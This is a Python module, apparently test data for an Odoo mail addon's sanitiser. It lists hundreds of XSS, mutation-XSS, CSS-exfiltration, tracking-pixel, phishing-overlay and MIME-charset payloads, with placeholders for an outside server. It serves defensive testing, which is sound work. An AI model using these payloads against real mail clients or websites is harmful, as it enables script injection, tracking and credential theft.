# ruff: noqa: E501 - one attack a line
"""Known attacks on sanitisers, mail programs and browsers, as the HTML of a mail.

``{c}`` stands for the address of a server that nothing may be asked of; ``{js}`` for a script that
asks it. Sources: the classes of attacks in OWASP's XSS filter evasion notes, the mutation XSS
literature, and what mail programs were known to load (Email Privacy Tester). Written for this
addon.
"""

ATTACKS = {
    # Scripts
    "script": "<script>{js}</script>",
    "script with address": '<script src="{c}/script.js"></script>',
    "script in capitals": "<SCRIPT>{js}</SCRIPT>",
    "script cut": "<scr<script>ipt>{js}</scr</script>ipt>",
    "script never closed": "<p>text<script>{js}",
    "script with slash": "<script/x>{js}</script>",
    "script with null": "<scr\x00ipt>{js}</scr\x00ipt>",
    "script module": '<script type="module">{js}</script>',
    "script of data": '<script src="data:text/javascript,{js}"></script>',
    "import map": '<script type="importmap">{{"imports":{{"x":"{c}/x.js"}}}}</script>',
    "noscript": '<noscript><p title="</noscript><img src=x onerror={js}>"></noscript>',
    # Event handlers
    "error": "<img src=x onerror={js}>",
    "error without quotes and with slash": "<img/src=x/onerror={js}>",
    "error in capitals": '<IMG SRC=x ONERROR="{js}">',
    "error with entity": '<img src=x onerror="&#102;etch(`{c}/e`)">',
    "load": "<body onload={js}><p>text</p></body>",
    "style load": "<style onload={js}>p{{}}</style>",
    "details": "<details open ontoggle={js}><summary>x</summary></details>",
    "focus": '<input autofocus onfocus="{js}"><a tabindex=1 autofocus onfocus="{js}">x</a>',
    "mouse": '<p onmouseover="{js}" onpointerenter="{js}">text</p>',
    "animation": "<style>@keyframes x{{}}</style><p style='animation:x 1s' onanimationstart={js}>",
    "marquee": "<marquee onstart={js}>x</marquee>",
    "video error": '<video><source onerror="{js}"></video><audio src=x onerror="{js}"></audio>',
    "newline in handler": '<img src=x\nonerror\n=\n"{js}">',
    "form feed": '<img\x0csrc=x\x0conerror="{js}">',
    "quote in attribute": '<img alt="`><img src=x onerror={js}>">',
    "backtick": "<img src=`x` onerror=`{js}`>",
    "custom element": "<x-y onclick={js} onpointermove={js}>x</x-y>",
    "is attribute": '<p is="x" oncopy="{js}">text</p>',
    # Links
    "javascript link": '<a href="javascript:{js}">x</a>',
    "javascript link in capitals": '<a href="JaVaScRiPt:{js}">x</a>',
    "javascript link with entity": '<a href="&#106;avascript&colon;{js}">x</a>',
    "javascript link with tab": '<a href="java\tscript:{js}">x</a>',
    "javascript link with entity of newline": '<a href="java&NewLine;script:{js}">x</a>',
    "javascript link after control": '<a href="\x01javascript:{js}">x</a>',
    "vbscript link": '<a href="vbscript:msgbox(1)">x</a>',
    "data link": '<a href="data:text/html,<script>{js}</script>">x</a>',
    "base64 link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "blob and file": '<a href="blob:{c}/x">x</a><a href="file:///etc/passwd">y</a>',
    "area": '<map name=m><area href="javascript:{js}"></map><img usemap="#m" src=x>',
    "link into Odoo": '<a href="/web/session/logout">x</a><a href="#action=1">y</a>',
    "ping": '<a href="https://good.example" ping="{c}/ping">x</a>',
    # The page itself
    "refresh": '<meta http-equiv="refresh" content="0;url={c}/refresh">',
    "refresh to a script": '<meta http-equiv="refresh" content="0;url=javascript:{js}">',
    "base": '<base href="{c}/"><img src="relative.png"><a href="relative">x</a>',
    "policy": '<meta http-equiv="Content-Security-Policy" content="img-src *">',
    "frame": '<iframe src="{c}/frame"></iframe><iframe srcdoc="<script>{js}</script>"></iframe>',
    "frameset": '<frameset><frame src="{c}/frame"></frameset>',
    "object": '<object data="{c}/object"><embed src="{c}/embed"></object>',
    "applet": '<applet code="x" codebase="{c}/"></applet>',
    "portal": '<portal src="{c}/portal"></portal><fencedframe src="{c}/x"></fencedframe>',
    "form": '<form action="{c}/form"><input name=password type=password><button>Send</button></form>',
    "form by attribute": '<button form=x formaction="{c}/f">x</button><input type=image src="{c}/i">',
    "isindex": '<isindex action="javascript:{js}" prompt="x">',
    "dialog": "<dialog open>x</dialog><p popover id=p>y</p><button popovertarget=p>z</button>",
    "declarative shadow root": '<div><template shadowrootmode="open"><img src="{c}/s"></template></div>',
    "slot": '<slot name="x"><img src=x onerror={js}></slot>',
    # SVG and MathML
    "svg load": "<svg onload={js}></svg>",
    "svg script": "<svg><script>{js}</script></svg>",
    "svg script with address": '<svg><script xlink:href="{c}/x.js"></script></svg>',
    "svg animate": '<svg><a><animate attributeName=href values="javascript:{js}"/><text>x</text></a></svg>',
    "svg set": '<svg><set attributeName="onmouseover" to="{js}"/></svg>',
    "svg image": '<svg><image href="{c}/svg.png"/><use href="{c}/x.svg#y"/></svg>',
    "svg foreign": "<svg><foreignObject><iframe srcdoc='<script>{js}</script>'></foreignObject></svg>",
    "svg style": "<svg><style>@import url({c}/x.css)</style></svg>",
    "svg picture": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{js}'/>\">",
    "math link": '<math href="javascript:{js}">x</math><math><mtext xlink:href="javascript:{js}">x</mtext></math>',
    # Mutation
    "mutation of math": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={js}&gt;'>",
    "mutation of form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror={js}>",
    "mutation of svg": "<svg></p><style><a id='</style><img src=x onerror={js}>'>",
    "mutation of noembed": "<noembed><img title='</noembed><img src=x onerror={js}>'></noembed>",
    "mutation of textarea": "<textarea><img title='</textarea><img src=x onerror={js}>'></textarea>",
    "mutation of title": "<title><img title='</title><img src=x onerror={js}>'></title>",
    "mutation of xmp": "<xmp><p title='</xmp><img src=x onerror={js}>'>",
    "mutation of comment": "<!--><img src=x onerror={js}>--><!-- --!><img src=x onerror={js}>",
    "mutation of processing": "<?xml version='1.0'?><?img src=x onerror={js}?><img src=x onerror={js}>",
    "mutation of CDATA": "<![CDATA[<img src=x onerror={js}>]]><svg><![CDATA[</svg><img src=x onerror={js}>]]>",
    "mutation of plaintext": "<plaintext><img src=x onerror={js}>",
    "mutation of template": "<template><img src=x onerror={js}></template>",
    "mutation of select": "<select><style></select><img src=x onerror={js}></style>",
    "conditional comment": "<!--[if mso]><img src=x onerror={js}><![endif]-->",
    "deep nesting": "<div>" * 600 + "<img src=x onerror={js}>" + "</div>" * 600,
    "broken tags": "<<img src=x onerror={js}>< img src=x onerror={js}><img src=x onerror={js}//",
    # Styles
    "style import": "<style>@import '{c}/x.css'; p {{ background: url({c}/y) }}</style><p>x</p>",
    "style element escapes": "<style>@\\69mport '{c}/x.css';</style>",
    "style sheet": '<link rel=stylesheet href="{c}/x.css"><link rel=prefetch href="{c}/p">',
    "preload": '<link rel=preload as=image href="{c}/p.png"><link rel=dns-prefetch href="{c}">',
    "icon and manifest": '<link rel=icon href="{c}/i.ico"><link rel=manifest href="{c}/m.json">',
    "font": "<style>@font-face{{font-family:x;src:url({c}/f.woff)}}p{{font-family:x}}</style><p>x</p>",
    "background in style": '<p style="background:url({c}/b.png)">x</p>',
    "background with quotes": "<p style=\"background-image:url('{c}/b.png')\">x</p>",
    "background escaped": '<p style="background:\\75rl({c}/b.png)">x</p>',
    "background with comment": '<p style="background:u/**/rl({c}/b.png);b/**/ackground:url({c}/c)">x</p>',
    "list picture": '<ul style="list-style-image:url({c}/l.png)"><li style="list-style:url({c}/m)">x</ul>',
    "cursor": '<p style="cursor:url({c}/c.cur),auto">x</p>',
    "content": '<p style="content:url({c}/x)">x</p>',
    "border picture": '<p style="border-image:url({c}/x) 30;mask:url({c}/m);filter:url({c}/f#x)">x</p>',
    "image set": "<p style=\"background-image:image-set('{c}/1.png' 1x)\">x</p>",
    "variable": '<p style="--x:url({c}/v.png);background:var(--x)">x</p>',
    "expression": '<p style="width:expression({js});behavior:url({c}/x.htc);-moz-binding:url({c}/x.xml)">x</p>',
    "shape": '<p style="shape-outside:url({c}/s.png);clip-path:url({c}/c.svg#x);float:left">x</p>',
    "overlay": '<p style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999">log in</p>',
    # Pictures and media
    "pixel": '<img src="{c}/pixel.gif" width=1 height=1>',
    "picture": '<img src="{c}/picture.png" width=200>',
    "picture without scheme": '<img src="//{h}/picture.png">',
    "picture with backslashes": '<img src="http:\\\\{h}\\x.png"><img src="\\\\{h}\\x.png">',
    "picture with newline": '<img src="ht\ntp://{h}/x.png">',
    "srcset": '<img srcset="{c}/1x.png 1x, {c}/2x.png 2x"><picture><source srcset="{c}/s"><img></picture>',
    "low source": '<img lowsrc="{c}/l.png" dynsrc="{c}/d.avi" longdesc="{c}/d">',
    "background attribute": '<table background="{c}/t.png"><tr><td background="{c}/d.png">x</table>',
    "body background": '<body background="{c}/b.png"><p>x</p></body>',
    "video": '<video src="{c}/v.mp4" poster="{c}/p.png" autoplay></video><audio src="{c}/a" autoplay></audio>',
    "track": '<video><track src="{c}/t.vtt" default></video>',
    "picture of Odoo": '<img src="/web/image/res.users/2/avatar_128"><img src="/web/session/logout">',
    "relative picture": '<img src="x.png"><img src="../x.png">',
    "picture kept for later": '<img data-original-src="{c}/x.png" data-src="{c}/y">',
    # Odoo and Owl
    "template directive": '<p t-esc="1" t-att-onclick="x" t-on-click="x" t-out="{js}">x</p><t t-raw="x"/>',
    "template call": '<t t-call="web.layout"/><t t-call-assets="web.assets_backend"/><t t-set="x" t-value="1"/>',
    "expression of a template": "{{{{ object.env.user.password }}}} ${{object.env}} <%= 1 %> #{{x}}",
    "mention": '<a data-oe-model="res.users" data-oe-id="2" class="o_mail_redirect" href="#">x</a>',
    "component": '<div data-embedded="file" data-embedded-props="{{}}" class="o_knowledge_behavior_type_x">x</div>',
    "widget": '<div class="o_dialog modal-backdrop" id="wrapwrap" name="csrf_token">x</div>',
    # Character sets
    "UTF-7": "+ADw-script+AD4-{js}+ADw-/script+AD4-",
    "overlong": "\u00bcscript\u00be{js}\u00bc/script\u00be",
    "entities without end": "&lt;img src=x onerror={js}&gt;&#60img src=x onerror={js}&#62",
    "direction": '<a href="https://good.example">\u202egnp.exe\u202c</a>',
}

# Where a parser and a browser disagree about what is text and what is a tag: each payload is put
# into each of them.
CONTAINERS = (
    "{x}",
    "<svg>{x}</svg>",
    "<svg><desc>{x}</desc></svg>",
    "<svg><title>{x}</title></svg>",
    "<svg><foreignObject>{x}</foreignObject></svg>",
    "<svg><style>{x}</style></svg>",
    "<svg><p><style><g title='</style>{x}'>",
    "<math>{x}</math>",
    "<math><mtext>{x}</mtext></math>",
    "<math><annotation-xml encoding='text/html'>{x}</annotation-xml></math>",
    "<math><mtext><table><mglyph><style><!--</style><p title='--&gt;{x}'>",
    "<form><math><mtext></form><form><mglyph><style></math>{x}",
    "<noscript>{x}</noscript>",
    "<noscript><p title='</noscript>{x}'></noscript>",
    "<template>{x}</template>",
    "<template><template>{x}</template></template>",
    "<style>{x}</style>",
    "<style><a title='</style>{x}'></a></style>",
    "<title>{x}</title>",
    "<title><a title='</title>{x}'>",
    "<textarea>{x}</textarea>",
    "<textarea><p title='</textarea>{x}'>",
    "<xmp>{x}</xmp>",
    "<noembed>{x}</noembed>",
    "<iframe>{x}</iframe>",
    "<iframe><p title='</iframe>{x}'>",
    "<select>{x}</select>",
    "<select><option><style></select>{x}</style>",
    "<table><tr>{x}</tr></table>",
    "<table><caption><svg>{x}</svg></caption></table>",
    "<!--{x}-->",
    "<!-->{x}-->",
    "<!--><p title='-->{x}'>",
    "<!-- --!>{x}-->",
    "<!--[if gte mso 9]>{x}<![endif]-->",
    "<![CDATA[{x}]]>",
    "<svg><![CDATA[</svg>{x}]]>",
    "<?php {x} ?>",
    "<p title='</p>{x}'>text</p>",
    '<p title="{x}">text</p>',
    "<object>{x}</object>",
    "<audio>{x}</audio>",
    "<frameset>{x}</frameset>",
    "<a href='x'>{x}</a><a>{x}",
    "<blockquote type=cite>{x}</blockquote>",
    "<div data-o-mail-quote='1'>{x}</div>",
)
PAYLOADS = (
    "<img src=x onerror={js}>",
    "<svg/onload={js}>",
    "<script>{js}</script>",
    "<input autofocus onfocus={js}>",
    "<iframe srcdoc='<script>{js}</script>'></iframe>",
    "<object data='{c}/object'></object>",
    "<link rel=stylesheet href={c}/sheet.css>",
    "<style>@import url({c}/import.css);</style>",
    "<p style=background:url({c}/background.png)>x</p>",
    "<img src={c}/picture.png>",
    "<video poster={c}/poster.png src={c}/video.mp4></video>",
    "<svg><image href={c}/image.png></image><use href={c}/use.svg#x></use></svg>",
    "<base href={c}/><img src=relative.png>",
    "<meta http-equiv=refresh content=0;url={c}/refresh>",
)
ATTACKS_IN_CONTAINERS = {
    f"{payload} in {container}": container.replace("{x}", payload)
    for container in CONTAINERS
    for payload in PAYLOADS
}

# MIME tricks: what looks like text to one reader of the mail and like HTML to another. Bytes of a
# mail below its From, To and Date fields, where {html} stands for HTML.
SOURCES = {
    "HTML as plain text": "Content-Type: text/plain\n\n{html}",
    "HTML in UTF-7": "Content-Type: text/html; charset=utf-7\n\n+ADw-img src=x onerror={js}+AD4-",
    "HTML behind an escape sequence": (
        'Content-Type: text/html; charset=iso-2022-jp\n\n<p title="\x1b$B\x1b(B{html}">x</p>'
    ),
    "unknown charset": "Content-Type: text/html; charset=x-user-defined\n\n{html}",
    "UTF-16 that is none": "Content-Type: text/html; charset=utf-16le\n\n{html}",
    "HTML of XML": "Content-Type: application/xhtml+xml\n\n<html>{html}</html>",
    "enriched text": "Content-Type: text/enriched\n\n<bold>{html}</bold>",
    "AMP": (
        "Content-Type: multipart/alternative; boundary=b\n\n--b\nContent-Type: text/plain\n\nx\n"
        "--b\nContent-Type: text/x-amp-html\n\n{html}\n--b--"
    ),
    "nested mail": "Content-Type: message/rfc822\n\nSubject: x\nContent-Type: text/html\n\n{html}",
    "delivery report": (
        "Content-Type: multipart/report; boundary=b\n\n--b\nContent-Type: message/delivery-status"
        "\n\n{html}\n--b--"
    ),
    "two parts that become one tag": (
        "Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/html\n\n<img src=x \n"
        "--b\nContent-Type: text/html\n\nonerror={js}>\n--b--"
    ),
    "invitation": (
        "Content-Type: text/calendar\n\nBEGIN:VCALENDAR\nMETHOD:REQUEST\nBEGIN:VEVENT\n"
        "SUMMARY:{html}\nLOCATION:{html}\nDESCRIPTION:{html}\nORGANIZER;CN={html}:mailto:a@b.example"
        "\nDTSTART:20260302T093000Z\nEND:VEVENT\nEND:VCALENDAR"
    ),
    "subject and names": 'Subject: {html}\nReply-To: "{html}" <a@b.example>\n\nx',
}
